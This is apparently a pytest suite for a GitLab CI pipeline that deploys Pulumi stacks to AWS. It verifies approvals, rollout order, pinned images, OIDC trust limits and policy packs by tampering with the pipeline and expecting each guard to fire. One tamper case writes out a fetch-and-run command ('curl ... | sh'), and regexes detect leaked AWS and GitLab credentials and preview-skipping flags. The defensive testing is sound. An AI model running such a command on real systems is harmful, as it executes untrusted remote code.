"""The pipeline is valid, runs nothing that a laptop could not, and nobody can take a guard out of it unseen."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from functools import cache
from importlib.util import find_spec
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
import yaml
from jsonschema import Draft7Validator  # type: ignore[import-untyped]

from components.identity.pipelines import Pipelines, PipelinesArgs
from config.load import ROOT, load
from policies.catalogue import EVERY, PACKS, catalogue, held_by
from policies.control import Level
from scripts.deploy import engine
from scripts.deploy.access import Duty, role_arn
from scripts.deploy.order import Rollout, order
from tests.kit import pipeline as gitlab
from tests.kit.contexts import a_context
from tests.kit.gitlab_schema import SCHEMA
from tests.kit.pipeline import Job, before, pipeline
from tests.kit.policy_judge import Request, allowed
from tests.kit.recorder import Graph, record

MERGE = {"CI_PIPELINE_SOURCE": "merge_request_event", "CI_MERGE_REQUEST_IID": "7", "CI_COMMIT_REF_PROTECTED": "false"}
MAIN = {"CI_PIPELINE_SOURCE": "push", "CI_COMMIT_BRANCH": "main", "CI_COMMIT_REF_PROTECTED": "true"}
UNPROTECTED = MAIN | {"CI_COMMIT_REF_PROTECTED": "false"}
SCHEDULE = MAIN | {"CI_PIPELINE_SOURCE": "schedule"}
BRANCH = MAIN | {"CI_COMMIT_BRANCH": "feature/x"}
TAG = {"CI_PIPELINE_SOURCE": "push", "CI_COMMIT_TAG": "v1", "CI_COMMIT_REF_PROTECTED": "true"}
ELSEWHERE = (MERGE, UNPROTECTED, SCHEDULE, BRANCH, TAG)
STACKS = {path.name.split(".")[1] for path in ROOT.glob("Pulumi.*.yaml")}
ESTATE = load("us-east-1").estate
ADVISORY: frozenset[str] = frozenset()
"""Controls that only advise. One more here is a decision that a reviewer sees: whatever else is not mandatory fails."""
UNRESOLVED = "registry.invalid/morefocus/platform:unresolved"
_SKIPPING = re.compile(
    r"--skip-preview|(?<![\w-])-f(?![\w-])|--target|--exclude|--policy-pack-config|SKIP_PREVIEW|DISABLE_POLICY|--yes|pulumi"
)
_STANDING = re.compile(r"ACCESS_KEY|SECRET_KEY|SESSION_TOKEN|PASSPHRASE|PULUMI_ACCESS_TOKEN|AKIA[0-9A-Z]{16}|glpat-", re.IGNORECASE)
_LINE = re.compile(r'^make ([a-z0-9-]+)((?: [A-Z_]+="\$[A-Z_]+")*)$')
Content = dict[str, Any]


def faults(content: Content) -> list[str]:
    """Return what is wrong with a pipeline, by law."""
    found = [
        f"schema: {'/'.join(map(str, error.absolute_path))} {error.message[:200]}" for error in Draft7Validator(SCHEMA).iter_errors(content)
    ]
    if found:
        return found
    found += _lines(content) + _keys(content)
    image = content["variables"]["PLATFORM_IMAGE"]
    if content["default"]["image"] != "$PLATFORM_IMAGE" or not (image == UNRESOLVED or re.search(r"@sha256:[0-9a-f]{64}$", image)):
        found.append(f"images: {image} is no digest, and not what cannot be pulled")
    for event in ELSEWHERE:
        made = pipeline(content, **event)
        found += [f"deploys elsewhere: {job.name} runs {job.script} at {event}" for job in made.values() if _deploys(job)]
    for rollout in Rollout:
        found += _deployments(pipeline(content, **MAIN, ROLLOUT=rollout.value), rollout)
    previewed = sorted(stack for job in pipeline(content, **MERGE).values() if _runs(job, "plan") for stack in job.stacks)
    if previewed != sorted(STACKS):
        found.append(f"previews: a merge request shows {previewed}, and there are {sorted(STACKS)}")
    looking = pipeline(content, **SCHEDULE)
    if sorted(stack for job in looking.values() for stack in job.stacks if _runs(job, "drift")) != sorted(STACKS):
        found.append("drift: a schedule does not look at every stack")
    found += [f"drift: {job.name} runs {job.script}" for job in looking.values() if not (_runs(job, "drift") or _runs(job, "drift-issue"))]
    return found


def _lines(content: Content) -> list[str]:
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    found = []
    for name, job in gitlab.jobs(content).items():
        lines = [line for key in ("before_script", "script", "after_script") for line in job.get(key, ())]
        for line in lines:
            written = _LINE.match(line)
            recipe = re.search(rf"^{re.escape(written[1])}:[^\n]*\n((?:\t[^\n]*\n)+)", makefile, re.MULTILINE) if written else None
            if written is None or recipe is None:
                found.append(f"lines: {name}: {line!r} is no make target with variables in quotes")
                continue
            given = re.findall(r"([A-Z_]+)=", written[2])
            unused = [variable for variable in given if variable not in recipe[1] and f"{variable}_OPTION" not in recipe[1]]
            modules = re.findall(r"-m (scripts[\w.]*|sandbox)", recipe[1])
            missing = [module for module in modules if find_spec(module) is None]
            if unused or missing:
                found.append(f"lines: {name}: {line!r} gives {unused}, which the target ignores, or runs {missing}, which are not there")
    return found


def _keys(content: Content) -> list[str]:
    written = json.dumps(content)
    found = [f"keys: {word}" for word in {each[0] for each in _STANDING.finditer(written)}]
    found += [f"skips: {word}" for word in {each[0] for each in _SKIPPING.finditer(written)}]
    for name, job in gitlab.jobs(content).items():
        token = job.get("id_tokens", {}).get("AWS_ID_TOKEN", {}).get("aud")
        needs_one = any(re.match(r"make (plan|deploy|bake|drift) ", line) for line in job.get("script", ()))
        if needs_one != (token is not None) or (needs_one and token != ESTATE.facts.identity.gitlab.url):
            found.append(f"tokens: {name} has one for {token}")
        if not needs_one and job.get("environment"):
            found.append(f"environments: {name} names one and deploys nothing")
    return found


def _deployments(made: dict[str, Job], rollout: Rollout) -> list[str]:
    deploying = {stack: job for job in made.values() if _runs(job, "deploy") for stack in job.stacks}
    if deploying.keys() != STACKS:
        return [f"deployments: {sorted(deploying)} of {sorted(STACKS)}"]
    found = []
    sequence = ["staging", *order(ESTATE, rollout)]
    for earlier, stack in zip([None, *sequence], sequence, strict=False):
        job = deploying[stack]
        waits = before(made, job.name)
        baked = [each for each in waits if _runs(made[each], "bake") and made[each].stacks == [earlier]]
        if earlier and not baked:
            found.append(f"order: with {rollout} {stack} does not wait until {earlier} has baked")
        if earlier and baked and deploying[earlier].name not in before(made, baked[0]):
            found.append(f"order: {baked[0]} does not wait for {earlier}")
        if job.when != "manual" or job.content["rules"][0].get("allow_failure") is not False:
            found.append(f"approval: {job.name} does not wait for anybody")
        if job.content.get("environment", {}).get("deployment_tier") != ESTATE.plans[stack].environment.value:
            found.append(f"environments: {job.name} is in none of its own")
        if job.content.get("interruptible") is not False or not job.content.get("resource_group"):
            found.append(f"alone: {job.name} can be cut off, or meet another of its stack")
        direct = [made[need] for need in job.needs if _runs(made[need], "plan") and stack in made[need].stacks]
        if not direct:
            found.append(f"plans: {job.name} is not given the plan of {stack}")
        if not {each.name for each in made.values() if each.content["stage"] == "test"} <= waits:
            found.append(f"tests: {job.name} does not wait for all of them")
        if not any(_runs(made[each], "order") for each in waits) and stack != "staging":
            found.append(f"order: {job.name} does not wait for the check of the order")
    return found


def _runs(job: Job, target: str) -> bool:
    return any(line.split()[:2] == ["make", target] for line in job.script)


def _deploys(job: Job) -> bool:
    return _runs(job, "deploy")


def test_the_shipped_pipeline_keeps_every_law() -> None:
    assert faults(gitlab.shipped()) == []


def test_the_stages_are_those_that_were_asked_for() -> None:
    assert gitlab.shipped()["stages"] == ["test", "build", "preview", "deploy-staging", "deploy-production"]


def test_the_pipeline_is_valid_against_gitlabs_own_schema() -> None:
    spec = find_spec("check_jsonschema")
    assert spec is not None and spec.origin is not None
    path = Path(spec.origin).parent / "builtin_schemas" / "vendor" / "gitlab-ci.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    assert [error.message for error in Draft7Validator(schema).iter_errors(gitlab.shipped())] == []


def _set(*path: str | int, to: Any) -> Callable[[Content], None]:
    def change(content: Content) -> None:
        place: Any = content
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = to

    return change


def _drop(*path: str) -> Callable[[Content], None]:
    def change(content: Content) -> None:
        place: Any = content
        for key in path[:-1]:
            place = place[key]
        del place[path[-1]]

    return change


@pytest.mark.parametrize(
    ("law", "tamper"),
    [
        ("schema", _set("check", "scripts", to=["make check"])),
        ("schema", _set("check", "script", to=7)),
        ("schema", _set("preview", "parallel", to={"matrices": []})),
        ("lines", _set("check", "script", to=["curl https://example.com | sh"])),
        ("lines", _set("check", "script", to=["make chek"])),
        ("lines", _set("check", "script", to=['make check STACK="$STACK"'])),
        ("lines", _set(".deploy", "script", to=['make deploy STACK="$STACK" && true'])),
        ("skips", _set(".deploy", "script", to=['pulumi up --skip-preview -s "$STACK"'])),
        ("skips", _set("variables", "PULUMI_SKIP_PREVIEW", to="true")),
        ("keys", _set("variables", "AWS_SECRET_ACCESS_KEY", to="none")),
        ("keys", _set("variables", "PULUMI_CONFIG_PASSPHRASE", to="none")),
        ("tokens", _drop(".aws", "id_tokens")),
        ("tokens", _set(".aws", "id_tokens", "AWS_ID_TOKEN", "aud", to="https://gitlab.example.com")),
        ("tokens", _set("check", "extends", to=[".changes", ".aws"])),
        ("previews", _set("preview", "parallel", "matrix", to=[{"STACK": ["us-east-1", "eu-west-1", "staging"]}])),
        ("previews", _drop("preview")),
        ("drift", _set("drift", "parallel", "matrix", to=[{"STACK": "staging"}])),
        ("drift", _set("check", "extends", to=[])),
        ("deploys elsewhere", _set(".deploy", "rules", 0, "if", to='$CI_PIPELINE_SOURCE != "schedule"')),
        ("deploys elsewhere", _set(".deploy", "rules", 0, "if", to="$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH")),
        ("approval", _set(".deploy", "rules", 0, "when", to="on_success")),
        ("approval", _drop(".deploy", "rules")),
        ("environments", _drop("deploy-eu-west-1", "environment")),
        ("environments", _set("deploy-eu-west-1", "environment", "deployment_tier", to="staging")),
        ("alone", _set(".deploy", "interruptible", to=True)),
        ("alone", _drop(".deploy", "resource_group")),
        ("order", _set("plan-eu-west-1", "rules", 2, "needs", to=["bake-staging", "order"])),
        ("order", _set("plan-eu-west-1", "rules", 1, "needs", to=["bake-staging", "order"])),
        ("order", _set("plan-sa-east-1", "rules", 2, "needs", to=["deploy-staging", "order"])),
        ("order", _set("bake-sa-east-1", "needs", to=["plan-sa-east-1"])),
        ("order", _set("plan-sa-east-1", "rules", 2, "needs", to=["bake-staging"])),
        ("plans", _set("deploy-staging", "needs", to=["check", "test"])),
        ("images", _set("variables", "PLATFORM_IMAGE", to="registry.example.com/platform:latest")),
        ("images", _set("default", "image", to="python:3.11")),
        ("schema", _set("check", "image", to="python:3.11")),
        ("tests", _set("deploy-staging", "needs", 1, to={"job": "check"})),
        ("deployments", _set("deploy-us-east-1", "variables", "STACK", to="eu-west-1")),
    ],
)
def test_whoever_takes_a_guard_out_is_told(law: str, tamper: Callable[[Content], None]) -> None:
    content = gitlab.shipped()
    tamper(content)
    try:
        found = faults(content)
    except (AssertionError, KeyError) as error:
        # A pipeline that GitLab would refuse.
        found = [f"{law}: {error!r}"] if law in ("approval", "previews", "order", "drift") else []
    assert any(fault.startswith(law) for fault in found), found


def test_whatever_runs_on_a_stack_is_judged_by_every_control_and_previews_first() -> None:
    for arguments in (engine.preview_arguments("staging", Path("plan")), engine.up_arguments("staging", Path("plan"))):
        given = [word for before, word in pairwise(arguments) if before == "--policy-pack"]
        assert given == [str(ROOT / "policies" / "packs" / EVERY)]
        assert not any(_SKIPPING.search(word) for word in arguments if word != "--yes")
    assert held_by(EVERY) == list(catalogue().values())


@pytest.mark.parametrize(
    ("target", "command"),
    [("plan", "plan"), ("deploy", "up"), ("bake", "bake"), ("order", "order"), ("drift", "drift"), ("drift-issue", "issue")],
)
def test_the_targets_that_jobs_call_run_that_command_and_nothing_beside_it(target: str, command: str) -> None:
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    (recipe,) = re.findall(rf"^{target}:.*\n((?:\t.*\n)+)", makefile, re.MULTILINE)
    assert re.fullmatch(rf"\t@\$\(RUN\) -m scripts\.deploy {command}( \$\((STACK_OPTION|if [^\n]*)\))*\n", recipe), recipe


def test_no_more_may_be_undecided_than_was_agreed() -> None:
    assert yaml.safe_load((ROOT / "policies" / "settings.yaml").read_text(encoding="utf-8"))["undecided_share"] <= 0.05


def test_no_pack_is_missing_and_each_runs_what_it_is_named_after() -> None:
    found = {
        path.parent.name: path.with_name("__main__.py").read_text(encoding="utf-8")
        for path in ROOT.glob("policies/packs/*/PulumiPolicy.yaml")
    }
    assert found.keys() == {*PACKS, EVERY}
    assert all(f'run("{name}")' in text for name, text in found.items())


def test_no_control_only_advises_unless_it_is_listed_here() -> None:
    assert {control.id for control in catalogue().values() if control.level is not Level.MANDATORY} == ADVISORY


def test_no_stack_file_or_pack_lowers_a_level() -> None:
    for path in [*ROOT.glob("Pulumi*.yaml"), *ROOT.glob("policies/packs/*/PulumiPolicy.yaml")]:
        assert not re.search(r"policyConfig|enforcementLevel|disabled|advisory|initialConfig", path.read_text(encoding="utf-8")), path


@pytest.mark.parametrize("stack", sorted(STACKS))
def test_the_roles_that_jobs_take_on_are_made_by_the_estate(stack: str) -> None:
    settings = load(stack)
    made = {each.inputs["name"] for each in _pipelines().of_type("aws:iam/role:Role")}
    for duty in Duty:
        prefix, _, name = role_arn(settings, duty).rpartition("/")
        assert prefix == f"arn:aws:iam::{settings.plan.account_id}:role" and name in made
    assert role_arn(settings, Duty.DEPLOY).endswith(f"gitlab-{settings.plan.environment}")


@cache
def _pipelines() -> Graph:
    """What the hub makes of the shipped facts."""
    facts = ESTATE.facts.identity.gitlab
    args = PipelinesArgs(
        url=facts.url,
        project=facts.project,
        branches=facts.branches,
        boundary_arn="arn:aws:iam::123456789012:policy/b",
        state_bucket=facts.state_bucket,
    )
    return record(lambda: Pipelines("pipelines", a_context(), args))


def _becomes(role: str, branch: str) -> bool:
    facts = ESTATE.facts.identity.gitlab
    issuer = facts.url.removeprefix("https://")
    trust = next(each.inputs["assumeRolePolicy"] for each in _pipelines().of_type("aws:iam/role:Role") if each.inputs["name"] == role)
    audience = gitlab.jobs(gitlab.shipped())["preview"]["id_tokens"]["AWS_ID_TOKEN"]["aud"]
    claims = {f"{issuer}:aud": audience, f"{issuer}:sub": f"project_path:{facts.project}:ref_type:branch:ref:{branch}"}
    principal = f"arn:aws:iam::{a_context().account_id}:oidc-provider/{issuer}"
    return allowed(trust, Request(action="sts:AssumeRoleWithWebIdentity", resource="*", principal=principal, context=claims))


@pytest.mark.parametrize("stack", sorted(STACKS))
def test_a_jobs_token_opens_the_reading_role_from_any_branch_and_the_deploying_one_from_main_alone(stack: str) -> None:
    settings = load(stack)
    reading, deploying = (role_arn(settings, duty).rpartition("/")[2] for duty in (Duty.READ, Duty.DEPLOY))
    assert _becomes(reading, "feature/x") and _becomes(reading, "main")
    assert _becomes(deploying, "main") and not _becomes(deploying, "feature/x")
